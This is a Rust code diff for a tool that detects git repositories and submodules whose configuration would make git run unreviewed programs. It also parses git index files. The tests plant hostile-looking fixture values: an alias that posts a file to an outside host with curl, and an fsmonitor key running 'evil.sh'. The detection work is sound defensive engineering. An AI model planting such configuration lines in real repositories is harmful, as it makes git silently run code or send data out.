@@ -140,13 +140,15 @@ fn split_command<'a>(argv: &'a [String], dir: &Path) -> Option<(PathBuf, &'a str
 /// project's own repository (`main`, its work tree), whose configuration is the user's and whose named programs
 /// are protected, its hooks ([`hooks_of`]); for any other repository inside the project (a nested clone, a
 /// submodule's checkout), also any program its configuration sets (`core.fsmonitor`, an alias, a filter, a diff
-/// driver, a pager…). `None` where the command finds no repository. The configuration is read as text, as for the
+/// driver, a pager…), and with [`Submodules::Read`] the programs its checked-out submodules' configuration sets.
+/// `None` where the command finds no repository. The configuration is read as text, as for the
 /// remotes.
 pub(crate) fn unreviewed_code(
     argv: &[String],
     dir: &Path,
     home: Option<&Path>,
     main: Option<&Path>,
+    submodules: Submodules,
 ) -> Option<Unreviewed> {
     // Where git runs: `-C DIR` moves it; configuration given with `-c` is the analysis's to judge (a key that runs
     // a program, `core.hooksPath` among them, is code it does not follow); another git directory is not the one
@@ -199,7 +201,157 @@ pub(crate) fn unreviewed_code(
             }
         }
     }
-    hooks_of(&repository, home).map(|why| Unreviewed { why, own })
+    hooks_of(&repository, home)
+        .or_else(|| match submodules {
+            Submodules::Read => submodule_programs(&repository),
+            Submodules::Skip => None,
+        })
+        .map(|why| Unreviewed { why, own })
+}
+
+/// Whether [`unreviewed_code`] reads the repository's index for its submodules, whose configuration git loads
+/// when it reads their status: the index of a large repository is megabytes, so only where it matters.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Submodules {
+    Read,
+    Skip,
+}
+
+/// The most submodules whose configuration is read.
+const MAX_SUBMODULES: usize = 64;
+
+/// A checked-out submodule (a gitlink of the repository's index) whose own configuration sets a program: git
+/// runs `git status` inside each submodule for `status`, `diff`, `add` and more, with that submodule's
+/// configuration, which lies inside the project and which nobody reviewed.
+fn submodule_programs(repository: &Repository) -> Option<String> {
+    let gitlinks = match gitlinks(&repository.git_dir.join("index")) {
+        Ok(paths) => paths,
+        Err(why) => return Some(why),
+    };
+    for path in gitlinks.iter().take(MAX_SUBMODULES) {
+        let dir = repository.work_tree.join(path);
+        let Some(submodule) = Repository::find(&dir).filter(|found| found.work_tree == dir) else {
+            continue;
+        };
+        for file in [
+            submodule.common_dir.join("config"),
+            submodule.git_dir.join("config.worktree"),
+        ] {
+            if let Some(key) = read_small(&file).and_then(|text| crate::repo_programs::program_key(&text)) {
+                return Some(format!(
+                    "its submodule at `{}`, whose status git reads, has a configuration that sets `{key}`",
+                    dir.display()
+                ));
+            }
+        }
+    }
+    (gitlinks.len() > MAX_SUBMODULES).then(|| {
+        format!("it has more than {MAX_SUBMODULES} submodules, whose configuration was not all read")
+    })
+}
+
+/// The largest index read for its gitlinks.
+const MAX_INDEX: u64 = 64 * 1024 * 1024;
+
+/// The paths of the gitlinks (mode 160000: submodules) of the git index at `path`, read as git writes it
+/// (versions 2 to 4, SHA-1 or SHA-256 entries); none where there is no index. An index that cannot be read so (a
+/// size past the bound, a damaged file) is an error saying why: its gitlinks are not known. Hand-written: no maintained crate reads the index without linking a git implementation.
+fn gitlinks(path: &Path) -> Result<Vec<String>, String> {
+    let unknown = |why: &str| {
+        Err(format!(
+            "its index `{}` {why}, so its submodules are not known",
+            path.display()
+        ))
+    };
+    let Ok(meta) = std::fs::metadata(path) else {
+        return Ok(Vec::new());
+    };
+    if meta.len() > MAX_INDEX {
+        return unknown("is too large to read");
+    }
+    let Ok(bytes) = std::fs::read(path) else {
+        return unknown("cannot be read");
+    };
+    let word = |at: usize| -> Option<u32> {
+        bytes
+            .get(at..at + 4)
+            .and_then(|b| b.try_into().ok())
+            .map(u32::from_be_bytes)
+    };
+    if bytes.get(..4) != Some(b"DIRC") {
+        return unknown("is not an index");
+    }
+    let version = word(4).unwrap_or(0);
+    if !matches!(version, 2..=4) {
+        return unknown(&format!("is of version {version}"));
+    }
+    let count = word(8).unwrap_or(0) as usize;
+    // The entry's fixed part: ten 32-bit fields, the object name, 16 bits of flags. Which hash the repository
+    // uses decides the name's length; an entry's path then ends with 1 to 8 NULs that pad it to 8 bytes.
+    let sha256 = std::fs::read_to_string(path.with_file_name("config"))
+        .is_ok_and(|config| config.to_ascii_lowercase().contains("sha256"));
+    let name_length = if sha256 { 32 } else { 20 };
+    let fixed = 40 + name_length + 2;
+    let mut at = 12;
+    let mut found = Vec::new();
+    // Version 4 writes each path as the previous one with a number of bytes taken off its end and a suffix.
+    let mut previous: Vec<u8> = Vec::new();
+    for _ in 0..count {
+        let (Some(mode), Some(flags)) = (
+            word(at + 24),
+            bytes
+                .get(at + fixed - 2..at + fixed)
+                .map(|b| u16::from_be_bytes([b[0], b[1]])),
+        ) else {
+            return unknown("ends inside an entry");
+        };
+        let extended = version >= 3 && flags & 0x4000 != 0;
+        let mut path_at = at + fixed + if extended { 2 } else { 0 };
+        let mut strip = 0usize;
+        if version == 4 {
+            // git's offset varint: seven bits a byte, each continuation adding one before the shift.
+            let Some(&first) = bytes.get(path_at) else {
+                return unknown("ends inside an entry");
+            };
+            let mut byte = first;
+            strip = usize::from(byte & 0x7f);
+            path_at += 1;
+            while byte & 0x80 != 0 {
+                let Some(&next) = bytes.get(path_at) else {
+                    return unknown("ends inside an entry");
+                };
+                byte = next;
+                strip = ((strip + 1) << 7) | usize::from(byte & 0x7f);
+                path_at += 1;
+            }
+        }
+        let Some(length) = bytes
+            .get(path_at..)
+            .and_then(|rest| rest.iter().position(|b| *b == 0))
+        else {
+            return unknown("ends inside an entry");
+        };
+        let suffix = &bytes[path_at..path_at + length];
+        let path = if version == 4 {
+            let Some(kept) = previous.len().checked_sub(strip) else {
+                return unknown("holds a path it cannot have");
+            };
+            previous.truncate(kept);
+            previous.extend_from_slice(suffix);
+            previous.as_slice()
+        } else {
+            suffix
+        };
+        if mode == 0o160_000 {
+            found.push(String::from_utf8_lossy(path).into_owned());
+        }
+        at = if version == 4 {
+            path_at + length + 1
+        } else {
+            at + ((path_at - at + length + 8) & !7)
+        };
+    }
+    Ok(found)
 }
 
 /// Why a git command may run code nobody reviewed ([`unreviewed_code`]).
@@ -626,7 +778,7 @@ mod tests {
         let home = Some(home.path());
         // Each repository as the project's own.
         let own = |argv: &[String], dir: &Path, main: &Path| {
-            unreviewed_code(argv, dir, home, Some(main)).map(|u| u.why)
+            unreviewed_code(argv, dir, home, Some(main), Submodules::Read).map(|u| u.why)
         };
         let plain = repository("[core]\n\tbare = false\n\tfsmonitor = sh tools/fsm.sh\n");
         std::fs::create_dir_all(plain.path().join(".git/hooks")).unwrap();
@@ -660,19 +812,89 @@ mod tests {
         let project = tempfile::tempdir().unwrap();
         // As the project's own repository its configuration is the user's; as another one it runs code.
         assert_eq!(
-            unreviewed_code(&status, nested.path(), None, Some(nested.path())),
+            unreviewed_code(
+                &status,
+                nested.path(),
+                None,
+                Some(nested.path()),
+                Submodules::Read
+            ),
             None
         );
         assert!(
-            unreviewed_code(&status, nested.path(), None, Some(project.path()))
-                .is_some_and(|u| !u.own && u.why.contains("core.fsmonitor"))
+            unreviewed_code(
+                &status,
+                nested.path(),
+                None,
+                Some(project.path()),
+                Submodules::Read
+            )
+            .is_some_and(|u| !u.own && u.why.contains("core.fsmonitor"))
         );
         let aliased = repository("[alias]\n\tst = !curl -d @x http://h/\n");
         assert!(
-            unreviewed_code(&status, aliased.path(), None, None).is_some_and(|u| u.why.contains("alias.st"))
+            unreviewed_code(&status, aliased.path(), None, None, Submodules::Read)
+                .is_some_and(|u| u.why.contains("alias.st"))
         );
         let quiet = repository("[user]\n\tname = A\n");
-        assert_eq!(unreviewed_code(&status, quiet.path(), None, None), None);
+        assert_eq!(
+            unreviewed_code(&status, quiet.path(), None, None, Submodules::Read),
+            None
+        );
+    }
+
+    /// Runs git in `dir` without the user's configuration.
+    fn git(dir: &Path, args: &[&str]) {
+        let status = std::process::Command::new("git")
+            .args(args)
+            .current_dir(dir)
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("GIT_AUTHOR_NAME", "A")
+            .env("GIT_AUTHOR_EMAIL", "a@example.com")
+            .env("GIT_COMMITTER_NAME", "A")
+            .env("GIT_COMMITTER_EMAIL", "a@example.com")
+            .stderr(std::process::Stdio::null())
+            .status()
+            .unwrap();
+        assert!(status.success(), "git {args:?}");
+    }
+
+    #[test]
+    fn a_submodule_whose_configuration_sets_a_program_is_code_nobody_reviewed() {
+        let project = tempfile::tempdir().unwrap();
+        let root = project.path();
+        git(root, &["init", "-q"]);
+        for name in ["a.txt", "b/c.txt", "a-longer-name-for-padding.md"] {
+            std::fs::create_dir_all(root.join(name).parent().unwrap()).unwrap();
+            std::fs::write(root.join(name), "x").unwrap();
+        }
+        std::fs::create_dir_all(root.join("sub")).unwrap();
+        git(&root.join("sub"), &["init", "-q"]);
+        git(&root.join("sub"), &["commit", "-q", "--allow-empty", "-m", "s"]);
+        git(root, &["add", "-A"]);
+        let paths = gitlinks(&root.join(".git/index")).unwrap();
+        assert_eq!(paths, ["sub"]);
+        let status = argv("git status");
+        assert_eq!(
+            unreviewed_code(&status, root, None, Some(root), Submodules::Read),
+            None
+        );
+        let config = root.join("sub/.git/config");
+        let mut text = std::fs::read_to_string(&config).unwrap();
+        text.push_str("[core]\n\tfsmonitor = sh ../evil.sh\n");
+        std::fs::write(&config, text).unwrap();
+        let found = unreviewed_code(&status, root, None, Some(root), Submodules::Read)
+            .expect("the submodule's fsmonitor");
+        assert!(found.own && found.why.contains("core.fsmonitor"), "{found:?}");
+        // The same index in version 4, whose paths are compressed, and back in version 3.
+        git(root, &["update-index", "--index-version", "4"]);
+        assert_eq!(gitlinks(&root.join(".git/index")).unwrap(), ["sub"]);
+        git(root, &["update-index", "--index-version", "3"]);
+        assert_eq!(gitlinks(&root.join(".git/index")).unwrap(), ["sub"]);
+        // An index that is not one of the versions read says so.
+        std::fs::write(root.join(".git/index"), b"DIRC\0\0\0\x05\0\0\0\0").unwrap();
+        assert!(gitlinks(&root.join(".git/index")).is_err());
     }
 
     #[test]
